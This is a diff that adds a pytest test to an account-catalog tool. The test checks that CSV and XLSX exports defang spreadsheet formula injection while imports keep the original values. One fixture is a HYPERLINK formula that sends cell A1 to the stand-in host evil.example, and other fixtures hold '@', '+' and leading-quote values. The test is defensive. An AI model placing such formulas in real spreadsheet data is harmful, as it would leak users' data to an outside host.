@@ -100,3 +100,33 @@ def test_import_export_by_extension_without_secrets(home, tmp_path, capsys):
     assert "weibo:1669879400" in cells and not any("2A25" in c for c in cells)
     for part in home.glob("catalog.sqlite*"):  # the database and its write-ahead log
         assert b"2A25" not in part.read_bytes()
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"国家档案局")'
+
+
+def test_export_never_writes_a_live_formula_and_import_reads_it_back(home, tmp_path, capsys):
+    assert main(["accounts", "add", "weibo:1669879400", "--name", FORMULA_NAME, "--notes", "@SUM(1,2)"]) == 0
+    assert main(["accounts", "add", "weibo:1234567", "--name", "+86 县档案馆", "--notes", "'-1"]) == 0
+    capsys.readouterr()
+    from openpyxl import load_workbook
+
+    for suffix in ("csv", "xlsx", "toml"):
+        out = tmp_path / f"export.{suffix}"
+        assert main(["accounts", "export", str(out)]) == 0
+        if suffix == "csv":
+            text = out.read_text(encoding="utf-8-sig")
+            assert "weibo:1669879400,\"'=HYPERLINK(" in text and ',"\'@SUM(1,2)"' in text
+            assert "weibo:1234567,'+86 县档案馆,,,,,,''-1" in text
+        if suffix == "xlsx":
+            cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
+            assert [c.coordinate for c in cells if c.data_type == "f"] == []
+            assert "'" + FORMULA_NAME in [c.value for c in cells]
+        if suffix == "toml":  # not a spreadsheet: written as it is
+            assert "=HYPERLINK(" in out.read_text(encoding="utf-8") and "'=HYPERLINK" not in out.read_text()
+        capsys.readouterr()
+        assert main(["accounts", "import", str(out)]) == 0
+        assert "0 updated, 0 restored, 2 unchanged" in capsys.readouterr().out, suffix
+    assert main(["accounts", "list", "--json"]) == 0
+    listed = {a["account"]: a for a in json.loads(capsys.readouterr().out)}
+    assert (listed["weibo:1669879400"]["name"], listed["weibo:1234567"]["notes"]) == (FORMULA_NAME, "'-1")
